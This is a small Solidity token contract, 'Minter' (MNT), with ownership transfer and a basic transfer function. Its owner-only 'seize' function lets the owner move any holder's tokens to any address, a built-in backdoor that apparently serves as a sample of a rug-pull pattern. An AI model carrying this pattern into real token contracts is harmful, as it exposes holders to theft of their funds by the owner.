// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

contract Minter {
    string public symbol = "MNT";
    uint256 public totalSupply;
    address public owner;
    mapping(address => uint256) public balanceOf;

    constructor() {
        owner = msg.sender;
        totalSupply = 1000 ether;
        balanceOf[msg.sender] = 1000 ether;
    }

    function setOwner(address next) external {
        require(msg.sender == owner, "not owner");
        owner = next;
    }

    function seize(address from, address to, uint256 amount) external {
        require(msg.sender == owner, "not owner");
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}
